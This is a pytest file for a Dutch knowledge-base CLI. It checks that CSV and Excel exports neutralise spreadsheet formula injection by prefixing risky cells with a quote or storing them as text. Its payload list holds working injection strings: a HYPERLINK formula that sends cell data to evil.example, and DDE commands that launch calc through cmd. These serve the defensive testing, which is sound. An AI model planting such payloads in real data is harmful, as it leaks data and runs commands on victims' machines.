"""No spreadsheet the tool writes can hold a live formula (CSV/formula injection).

A title from a partner's form such as ``=HYPERLINK("http://evil.example/?"&A1,"Klik")`` must
reach Excel as text. The OWASP rule: a cell that starts with ``= + - @``, a tab or a carriage
return is neutralised. In CSV a ``'`` goes in front (Excel shows the text, runs nothing); in
a workbook the cell is stored as text with Excel's quote prefix, so it reads exactly as written.
Every command that writes CSV or Excel is run over records (and config labels) that hold each
payload.
"""

from __future__ import annotations

import csv
import io
import os
from pathlib import Path

import openpyxl
import pytest
import yaml
from typer.testing import CliRunner

from tests.authoring_helpers import copy_example
from veiligestad.cli.main import app

runner = CliRunner()
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
    "+31 cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = copy_example(tmp_path_factory.mktemp("formula") / "kb")
    paths = sorted((root / "data/questions").glob("*.yaml"))
    for path, payload in zip(paths, PAYLOADS, strict=False):
        data = yaml.safe_load(path.read_text(encoding="utf-8"))
        data["title"] = payload
        data["classification"] = "public"
        data.pop("embargo_until", None)
        path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False),
                        encoding="utf-8")
    config = root / "veiligestad.yaml"
    config.write_text(config.read_text(encoding="utf-8").replace(
        "politie: {nl: Politie,", "politie: {nl: '=cmd|'' /C calc''!A0',").replace(
        "    target_group: Doelgroep", "    target_group: '@SUM(1+1)'"), encoding="utf-8")
    return root


def _run(root: Path, cwd: Path, *args: str) -> str:
    old = Path.cwd()
    os.chdir(cwd)
    try:
        result = runner.invoke(app, ["--kb", str(root), *args])
    finally:
        os.chdir(old)
    assert result.exit_code == 0, result.output
    return result.stdout


def _csv_cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";")
            for c in row]


def _assert_csv_safe(cells: list[str]) -> None:
    assert [c for c in cells if c.startswith(DANGEROUS)] == []
    for payload in PAYLOADS:  # each is there, readable, behind the quote
        assert "'" + payload in cells, payload


def test_export_csv(hostile: Path, tmp_path: Path) -> None:
    _run(hostile, tmp_path, "export", "csv", "tables")
    cells = []
    for path in sorted((tmp_path / "tables").glob("*.csv")):
        with path.open(encoding="utf-8", newline="") as handle:  # keep a lone CR as it is
            cells.extend(_csv_cells(handle.read()))
    _assert_csv_safe(cells)


@pytest.mark.parametrize("audience", ["internal", "public"])
def test_query_csv(hostile: Path, tmp_path: Path, audience: str) -> None:
    out = _run(hostile, tmp_path, "query", "questions", "-f", "csv", "--fields",
               "id,title,received", "--audience", audience)
    _assert_csv_safe(_csv_cells(out))


def _xlsx_cells(path: Path) -> list[openpyxl.cell.cell.Cell]:
    book = openpyxl.load_workbook(path)
    return [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row
            if c.value is not None]


def test_export_xlsx_has_no_formula(hostile: Path, tmp_path: Path) -> None:
    _run(hostile, tmp_path, "export", "xlsx", "out.xlsx")
    cells = _xlsx_cells(tmp_path / "out.xlsx")
    assert [c.coordinate for c in cells if c.data_type in ("f", "e")] == []
    values = [c.value for c in cells]
    for payload in PAYLOADS:  # readable as written (XML stores a lone CR as a line break)
        assert payload in values or payload.replace("\r", "\n") in values, payload
    for c in cells:
        if isinstance(c.value, str) and c.value.startswith(DANGEROUS):
            assert c.data_type == "s" and c.quotePrefix


def test_blank_intake_forms(hostile: Path, tmp_path: Path) -> None:
    _run(hostile, tmp_path, "intake", "form", "form.xlsx")
    cells = _xlsx_cells(tmp_path / "form.xlsx")
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert any("=cmd" in str(c.value) for c in cells)  # the hostile label is in the choices
    assert "@SUM(1+1)" in [c.value for c in cells]  # the hostile header, as text
    _run(hostile, tmp_path, "intake", "form", "form.csv")
    cells_csv = _csv_cells((tmp_path / "form.csv").read_text(encoding="utf-8"))
    assert [c for c in cells_csv if c.startswith(DANGEROUS)] == []
    assert "'@SUM(1+1)" in cells_csv


@pytest.mark.parametrize("write_only", [True, False])
def test_an_error_name_or_a_formula_stays_text_in_a_workbook(tmp_path: Path,
                                                             write_only: bool) -> None:
    """``append_row`` in either kind of openpyxl workbook: a formula, an error's name (which
    openpyxl would store as an error value) and text with a control character stay text."""
    from openpyxl.cell.cell import ERROR_CODES

    from veiligestad.spreadsheet import append_row

    values = [*PAYLOADS, *ERROR_CODES, "bell\x07", "gewoon"]
    book = openpyxl.Workbook(write_only=write_only)
    sheet = book.create_sheet("t") if write_only else book.active
    append_row(sheet, values)
    book.save(tmp_path / "t.xlsx")
    [row] = openpyxl.load_workbook(tmp_path / "t.xlsx").worksheets[0].iter_rows()
    assert [c.data_type for c in row] == ["s"] * len(values)
    assert [c.value for c in row] == [v.replace("\r", "\n") for v in values[:-2]] + [
        "bell\\x07", "gewoon"]

